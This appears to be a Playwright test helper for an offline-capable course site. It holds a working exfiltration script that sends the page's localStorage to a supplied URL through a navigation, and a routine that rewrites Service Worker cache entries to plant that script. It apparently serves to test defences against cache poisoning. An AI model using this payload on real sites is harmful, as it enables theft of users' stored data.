/** A script that is after what the site keeps on the device, and a device on which something is kept. */
import type { Page } from '@playwright/test';
import { expect } from './site.ts';

export const PAGE = 'gradient-descent/';

/** A script that carries off what the site has on the device, by the one way that no policy bars. */
export const leak = (where: string): string =>
  `location.href = ${JSON.stringify(where)} + '?' + encodeURIComponent(JSON.stringify(localStorage));`;

/** A function that puts this script into every kept file whose path ends so, and gives how many those were. */
export const REWRITE = `async (leak, ending) => {
  let count = 0;
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const { url } of await cache.keys()) {
      const { pathname, search } = new URL(url);
      if (!pathname.endsWith(ending) || !search.startsWith('?kept=')) continue;
      const [type, text] = pathname.endsWith('/') ? ['text/html', '<script>' + leak + '</script>'] : ['text/javascript', leak];
      await cache.put(url, new Response(text, { headers: { 'content-type': type } }));
      count += 1;
    }
  }
  return count;
}`;

export async function keep(page: Page, site: string): Promise<void> {
  await page.goto(`${site}offline/`);
  await page.getByRole('button', { name: 'Keep 6.1' }).click();
  await expect(page.getByRole('status')).toContainText('kept. It opens and runs', { timeout: 60_000 });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.evaluate(() => localStorage.setItem('answers', 'of a student'));
}
